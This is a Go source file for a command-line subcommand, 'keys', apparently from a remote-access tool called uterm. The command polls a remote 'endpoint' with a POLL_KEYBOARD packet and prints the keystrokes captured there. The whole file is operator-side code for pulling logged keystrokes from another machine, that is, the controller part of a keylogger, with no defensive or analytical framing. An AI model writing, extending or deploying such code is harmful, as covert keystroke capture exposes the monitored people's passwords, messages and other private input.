/*
Copyright © 2020 NAME HERE <EMAIL ADDRESS>

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/
package cmd

import (
	"fmt"

	"github.com/spf13/cobra"

	"github.com/defsky/uterm/proto"
)

// keysCmd represents the keys command
var keysCmd = &cobra.Command{
	Use:   "keys",
	Short: "drain the keyboard buffer of a running endpoint",
	Long:  `send a POLL_KEYBOARD packet and print the captured keystrokes`,
	Args:  cobra.NoArgs,
	Run: func(cmd *cobra.Command, args []string) {
		resp, err := exchange(proto.CM_POLL_KEYBOARD, nil, false)
		if err != nil {
			fmt.Println(err)
			return
		}
		if resp.Len() == 0 {
			fmt.Println("no keystrokes captured")
			return
		}
		fmt.Printf("%q\n", resp.String())
	},
}

func init() {
	rootCmd.AddCommand(keysCmd)
	addClientFlags(keysCmd)
}
